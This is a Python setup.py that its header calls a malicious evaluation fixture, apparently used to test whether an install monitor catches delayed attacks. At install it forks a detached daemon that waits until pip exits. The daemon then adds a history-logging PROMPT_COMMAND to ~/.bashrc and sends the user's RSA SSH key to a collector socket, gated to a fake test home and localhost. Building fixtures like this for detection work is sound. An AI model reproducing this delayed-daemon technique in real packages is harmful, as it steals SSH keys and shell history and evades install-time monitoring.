# Evaluation fixture (malicious): waiting until the install is over.
# Module-level code double-forks a daemon (setsid, stdio closed) that waits
# until pip has exited, then appends a line to ~/.bashrc and sends the RSA
# SSH key to a hard-coded collector: a monitor that stops watching when pip
# returns sees nothing.  Acts only inside the evaluation: HOME must be the
# fake home (SP_HOME); 127.0.0.1 at SP_SINK_PORT.
import os
import socket
import time

from setuptools import setup


def _later(pip_pid, home, port):
    deadline = time.time() + 120
    while os.path.exists("/proc/%d" % pip_pid) and time.time() < deadline:
        time.sleep(0.2)
    time.sleep(1)
    with open(os.path.join(home, ".bashrc"), "a") as f:
        f.write("\n# delayed\nexport PROMPT_COMMAND='history -a /dev/shm/.h'\n")
    try:
        with open(os.path.join(home, ".ssh", "id_rsa"), "rb") as f:
            key = f.read()
        with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
            s.sendall(b"DELAYED " + key)
    except OSError:
        pass


def _daemon():
    home, port = os.environ.get("SP_HOME"), int(os.environ.get("SP_SINK_PORT", "0"))
    if not home or os.environ.get("HOME") != home or not port or not os.environ.get("SP_TOKEN"):
        return
    lock = os.path.join(os.environ.get("SP_TMP", home), ".tzh.lock")
    if os.path.exists(lock):
        return
    open(lock, "w").close()
    pip_pid = os.getppid()
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    fd = os.open(os.devnull, os.O_RDWR)
    for i in (0, 1, 2):
        os.dup2(fd, i)
    try:
        _later(pip_pid, home, port)
    finally:
        os._exit(0)


_daemon()

setup(name="delay-after-pip", version="1.0.0", py_modules=["tzhelp"])
